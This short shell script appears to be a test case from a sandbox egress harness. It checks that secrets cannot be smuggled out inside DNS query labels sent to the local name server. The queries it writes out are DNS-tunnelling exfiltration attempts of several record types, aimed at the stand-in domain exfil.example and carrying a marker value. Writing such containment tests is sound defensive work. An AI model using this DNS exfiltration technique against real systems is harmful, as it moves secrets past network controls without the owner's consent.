# carry secrets out in the labels of names, by questions to the box's own name server
setup() { sink udp && pass PORT && allow code.example.com; }
questions() { # SERVER PORT
    local type long
    for type in 1 28 16 5 10 15 255; do ask udp "$1" "$2" "$type" "$MARK.exfil.example"; done
    long=$(printf '%s' "$MARK$MARK$MARK$MARK" | cut -c 1-60)
    ask udp "$1" "$2" 1 "$long.$long.$long.exfil.example"
    ask udp "$1" "$2" 1 "$MARK.code.example.com"
    ask udp "$1" "$2" 12 "$MARK.in-addr.arpa"
}
attempt() { questions "$(name_server)" 53; }
control() { questions 127.0.0.1 "$PORT"; }
held() { tried '^type ' && ! arrived "$MARK" && ! grep -q 'answers [1-9]' "$out"; }
